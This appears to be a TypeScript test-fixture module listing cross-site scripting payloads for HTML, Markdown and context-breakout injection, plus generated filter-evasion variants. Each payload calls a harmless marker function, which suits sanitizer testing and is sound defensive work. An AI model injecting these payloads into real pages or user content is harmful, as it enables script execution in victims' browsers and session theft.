// What people type who want their script to run in the pages of others: by the place it hopes to stand in, and in the
// disguises that filters have fallen for. `hit()` is what would run.

const elements = [
  "<script>hit()</script>",
  "<script src=data:,hit()></script>",
  "<script/x>hit()</script>",
  "<script\n>hit()</script\n>",
  "<scr<script>ipt>hit()</scr</script>ipt>",
  "<img src=x onerror=hit()>",
  "<img src=x onerror='hit()'>",
  '<img src=x onerror="hit()">',
  "<img/src=x/onerror=hit()>",
  "<img src=x:x onerror\n=hit()>",
  "<img src onerror=hit()//",
  "<svg onload=hit()>",
  "<svg/onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:hit()><text x=9 y=9>x</text></a></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
  "<math href=javascript:hit()>x</math>",
  "<iframe src=javascript:hit()></iframe>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data=javascript:hit()></object>",
  "<embed src=javascript:hit()>",
  "<body onload=hit()>",
  "<input autofocus onfocus=hit()>",
  "<select autofocus onfocus=hit()>",
  "<textarea autofocus onfocus=hit()>",
  "<details open ontoggle=hit()>",
  "<video src=x onerror=hit()>",
  "<video><source onerror=hit()></video>",
  "<audio src=x onerror=hit()>",
  "<marquee onstart=hit()>",
  "<link rel=stylesheet href=data:,*{x:hit()}>",
  "<style>@import'javascript:hit()';</style>",
  "<base href=javascript:hit()//>",
  "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
  "<form action=javascript:hit()><input type=submit></form>",
  "<button formaction=javascript:hit()>x</button>",
  "<isindex action=javascript:hit() type=submit>",
  "<template><script>hit()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'>",
  "<xmp><img src=x onerror=hit()></xmp>",
  "<a href=javascript:hit()>x</a>",
  "<a href='java\tscript:hit()'>x</a>",
  "<a href=' javascript:hit()'>x</a>",
  "<a href=data:text/html,<script>hit()</script>>x</a>",
  "<p style=animation-name:x onanimationstart=hit()>x</p>",
  "<dialog open onclose=hit()>x</dialog>",
  "<popover onbeforetoggle=hit()>",
];

const leavings = [
  "</textarea><script>hit()</script>",
  "</title><script>hit()</script>",
  "</style><script>hit()</script>",
  "</script><script>hit()</script>",
  "--><script>hit()</script>",
  "]]><script>hit()</script>",
  '"><script>hit()</script>',
  "'><script>hit()</script>",
  "`><script>hit()</script>",
  '" onfocus=hit() autofocus x="',
  "' onfocus=hit() autofocus x='",
  "` onfocus=hit() autofocus x=`",
  '" onmouseover="hit()',
  " onpointerenter=hit() ",
  "';hit();//",
  '";hit();//',
  "${hit()}",
  "{{constructor.constructor('hit()')()}}",
  "<%= hit() %>",
  "\\u003cscript\\u003ehit()\\u003c/script\\u003e",
  "\\x3cscript\\x3ehit()\\x3c/script\\x3e",
  "&lt;script&gt;hit()&lt;/script&gt;",
  "&#60;script&#62;hit()&#60;/script&#62;",
  "&#x3c;script&#x3e;hit()&#x3c;/script&#x3e;",
  "%3Cscript%3Ehit()%3C/script%3E",
];

const markdown = [
  "[x](javascript:hit())",
  "[x](JaVaScRiPt:hit())",
  "[x](java&#10;script:hit())",
  "[x](&#x6A;avascript:hit())",
  "[x](<javascript:hit()>)",
  "[x]( javascript:hit())",
  "[x](vbscript:hit())",
  "[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)",
  "[x](//evil.example/?x=hit())",
  '[x](https://a.example "onmouseover=hit()")',
  "[x](https://a.example'onclick='hit())",
  "[x][1]\n\n[1]: javascript:hit()",
  "![x](x\"onerror=hit())",
  "![x](javascript:hit())",
  '![x](https://a.example/x.png "onload=hit()")',
  "<javascript:hit()>",
  "<https://a.example/\"onclick=hit()>",
  "```\n<script>hit()</script>\n```",
  "```<img src=x onerror=hit()>\nx\n```",
  "`<script>hit()</script>`",
  "> <script>hit()</script>",
  "- <img src=x onerror=hit()>",
  "| <svg onload=hit()> |\n|---|\n| x |",
  "# <script>hit()</script>",
  "[^1]\n\n[^1]: <script>hit()</script>",
  "<!-- --!><script>hit()</script> -->",
  "***<script>hit()</script>***",
  "https://a.example/<script>hit()</script>",
  "[<img src=x onerror=hit()>](https://a.example)",
];

/** The same in the disguises that filters have fallen for. */
const disguised = elements.flatMap((payload, nth) => [
  [payload.toUpperCase().replaceAll("HIT()", "hit()"), payload.replaceAll("<", "<\u0000"), payload.replaceAll("=", " = ")][nth % 3],
  [payload.replaceAll("<", "\uFF1C").replaceAll(">", "\uFF1E"), payload.replaceAll(" ", "\u000C"), payload.replaceAll("on", "o\u200Bn")][nth % 3],
  `<p>${payload}`,
]).map((payload) => payload.replaceAll("\u0000", "").replaceAll("\u000C", "\t"));

export const payloads: string[] = [...new Set([...elements, ...leavings, ...markdown, ...disguised])];

/** All of them, in as few texts as hold them. */
export function inTexts(most: number): string[] {
  const texts = [""];
  for (const payload of payloads) {
    const longer = `${texts[texts.length - 1]}\n\n${payload}`;
    if (longer.length > most) texts.push(payload);
    else texts[texts.length - 1] = longer;
  }
  return texts.map((text) => text.trim());
}

/** One line each. */
export const inLines = (most: number) => payloads.map((payload) => payload.replace(/\s+/g, " ").trim().slice(0, most));
